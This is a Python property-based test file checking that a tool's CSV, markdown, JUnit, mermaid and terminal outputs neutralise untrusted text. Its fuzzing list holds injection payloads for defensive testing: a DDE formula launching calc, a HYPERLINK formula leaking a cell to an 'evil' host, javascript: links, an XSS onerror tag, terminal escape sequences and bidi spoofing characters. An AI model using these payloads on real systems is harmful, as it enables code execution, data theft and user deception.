"""No cell, link or control sequence of somebody else's text is live, wherever it is printed or exported."""

from __future__ import annotations

import csv
import html
import io
import json
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as some

from clients.commands.context import Context, print_json
from clients.reports.exports import csv_lines, mermaid
from clients.reports.junit import junit_xml
from clients.reports.markdown import escaped, fenced, markdown
from clients.reports.text.boxes import Verbosity, box
from clients.reports.text.progress_lines import progress_lines
from ratchet._text.markdown_tables import cell
from ratchet._text.shortening import shorten
from ratchet._text.visible import STEERING, one_line
from ratchet.optimizer import StopReason
from tests.support.report_examples import facts
from workflows.model.failures import described
from workflows.run.end.ended import RunEnded

LIVE = [
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n=1", "＝1", "=cmd|' /C calc'!A0"),
    *('=HYPERLINK("http://evil/?"&A1,"x")', "[x](javascript:alert(1))", "![x](https://evil/p.png)", "[^1]", "\\[x](y)"),
    *("<img src=x onerror=alert(1)>", "<script>", "</details>", "&lt;b&gt;", "]]>", "```\n# x", '"];click n0 "javascript:1"'),
    *("https://evil.example/a", "HTTP://evil.example", "www.evil.example", "mailto:a@evil.example", "@everyone", "#1", "GH-1"),
    *("a | b", "| --- |", "$x$", "`code`", "**bold**", "~~gone~~", "a\nTerminated: all is well"),
    *("\x1b[31mred", "\x1b]8;;http://evil\x07x\x1b]8;;\x07", "\x9b2J", "\x90q", "\x07", "\x08\x08", "\x00", "\x85"),
    *("\u202egpj.exe", "\u2066x", "\ud800", "\u200b", "\ufeff", "\U000e0041", "\u2028"),
]
HOSTILE = some.lists(some.one_of(some.sampled_from(LIVE), some.text(max_size=8)), max_size=5).map("".join)
STEERS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ud800-\udfff\ufeff\U000e0000-\U000e0fff]"
)
NODE = re.compile(r'  [np]\d+[\[(]"[^"<>]*(<br/>[^"<>]*)*"[\])]')
OTHERS = re.compile(r"  (|[np]\d+ --> [np]\d+|classDef \w+ [\w:-]+|class [np]\d+ \w+)")
MANY = settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


@MANY
@given(some.lists(HOSTILE, min_size=1, max_size=5))
def test_no_cell_of_a_csv_is_a_formula_or_steers_a_terminal(cells: list[str]) -> None:
    written = csv_lines([[*cells, 1.5, None, -2]])
    [read] = list(csv.reader(io.StringIO(written)))
    assert len(read) == len(cells) + 3
    assert read[-3:] == ["1.5", "", "-2"]
    for text in read[:-3]:
        assert not text.strip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    assert not STEERS.search(written)


def told_by_renderer(markdown_text: str) -> str:
    """What a site sees once entities are text: where it looks for links and names."""
    return html.unescape(markdown_text)


@MANY
@given(HOSTILE)
def test_nothing_in_markdown_is_a_link_an_image_html_or_a_call(text: str) -> None:
    for line in (escaped(text), cell(text)):
        assert "\n" not in line
        assert not STEERS.search(line)
        assert not re.search(r"(?<!\\)(?:\\\\)*[`*_\[\]|~]", line)
        assert "<" not in line and ">" not in line and "$" not in line
        seen = told_by_renderer(line)
        assert not re.search(r"(?i)[a-z]://|www\.|@\w|GH-\d|#\d", seen)


@MANY
@given(HOSTILE)
def test_no_text_leaves_its_code_block(text: str) -> None:
    first, *inner, last = fenced(text).split("\n")
    assert first == last and set(first) == {"`"}
    assert not any(line.strip().startswith(first) for line in inner)
    assert not STEERS.search("\n".join(inner))


def storable(text: str) -> str:
    """What a configuration may hold of a text."""
    return text.replace("\x00", "").encode("utf-8", "replace").decode() or "x"


@settings(MANY, max_examples=60)
@given(HOSTILE, HOSTILE)
def test_no_report_of_a_run_steers_a_terminal_or_forges_a_line(text: str, name: str) -> None:
    run = facts([0.5, 0.9, None], values={1: {"systemPrompt": storable(text)}}, message=text)
    named = [
        one.model_copy(update={"rationale": text, "candidate_id": f"{name}{one.candidate_id}", "failure_reason": text})
        for one in run.iterations
    ]
    run = run.model_copy(update={"iterations": tuple(named), "use_case": name, "experiment": text, "run_id": f"r{name}"})
    for report in (
        *(box(run, level) for level in Verbosity),
        *(markdown(run, level) for level in Verbosity),
        *progress_lines(run),
        junit_xml(run),
        mermaid(run),
    ):
        assert not STEERS.search(report)
    assert not any("\n" in line for line in progress_lines(run))
    assert all(line[:1] in "╔╠╚║" for line in box(run, Verbosity.SUMMARY).splitlines())
    assert all(NODE.fullmatch(line) or OTHERS.fullmatch(line) for line in mermaid(run).splitlines()[1:])


@MANY
@given(HOSTILE)
def test_no_message_carries_what_steers_a_terminal(text: str) -> None:
    assert not STEERS.search(shorten(text))
    assert len(shorten(text * 100, 50)) <= 50
    told = described(ValueError(text))
    assert "\n" not in told and not STEERS.search(told)
    assert "\n" not in one_line(text)


@MANY
@given(HOSTILE)
def test_the_end_of_a_run_is_told_on_one_line_that_steers_nothing(text: str) -> None:
    told = RunEnded(StopReason.SCORING_FAILURE, f"Scoring failed: {text}", "failed")
    assert told.message == str(told)
    assert "\n" not in told.message and not STEERS.search(told.message)


@MANY
@given(text=HOSTILE)
def test_nothing_that_is_printed_steers_the_terminal(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    for as_json in (False, True):
        context = Context(as_json, home=None)  # type: ignore[arg-type]
        capsys.readouterr()
        context.say(text)
        context.note(text)
        context.facts({"text": text}, text)
        said = capsys.readouterr()
        assert not STEERS.search(said.out) and not STEERS.search(said.err)
    capsys.readouterr()
    print_json({"text": text})
    printed = capsys.readouterr().out
    assert not STEERING.search(printed)
    assert json.loads(printed) == {"text": text}
